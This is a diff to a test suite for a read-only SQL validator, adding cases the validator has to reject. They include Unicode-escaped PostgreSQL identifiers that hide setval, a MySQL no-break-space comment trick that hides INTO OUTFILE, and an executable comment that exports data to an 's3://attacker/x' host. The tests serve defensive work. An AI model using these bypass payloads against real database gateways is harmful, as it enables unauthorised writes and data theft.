@@ -18,6 +18,8 @@ describe("readOnlySqlProblem (defence in depth; the read-only database user is t
     // Column names that contain a forbidden word are not that word.
     "SELECT updated_at, insert_count, settings FROM t",
     "SELECT replace(name, 'a', 'b') FROM t",
+    // An identifier that ends in u, then & (bitwise and) and a quoted name: no Unicode escape.
+    'SELECT menu&"flags" FROM t',
   ])("accepts %j", (sql) => {
     expect(readOnlySqlProblem(sql)).toBeUndefined();
   });
@@ -71,6 +73,18 @@ describe("readOnlySqlProblem (defence in depth; the read-only database user is t
       "WITH é$$ AS (SELECT '\\'), d AS (DELETE FROM orders RETURNING 1) SELECT '$$' FROM d",
       "must not use a backslash inside a string literal (where such a literal ends depends on the server's settings)",
     ],
+    // PostgreSQL decodes U&"…" before it knows the name: U&"\0073etval" is setval (it wrote a
+    // sequence on PostgreSQL 15 past the name check).
+    [
+      "SELECT U&\"\\0073etval\"('s', 1)",
+      'must not use a Unicode-escaped name or string (U&"…"): what it names is only known once decoded',
+    ],
+    [
+      "SELECT u&\"!0073etval\" UESCAPE '!'('s', 1)",
+      'must not use a Unicode-escaped name or string (U&"…"): what it names is only known once decoded',
+    ],
+    // MySQL: `--` before a no-break space is no comment, so what follows is code.
+    ["SELECT 1 --\u00a0 INTO OUTFILE '/tmp/x'", "must only read: it contains INTO"],
     // MySQL runs the body of an executable comment.
     [
       "SELECT * FROM customers /*!50000 INTO OUTFILE S3 's3://attacker/x' */",
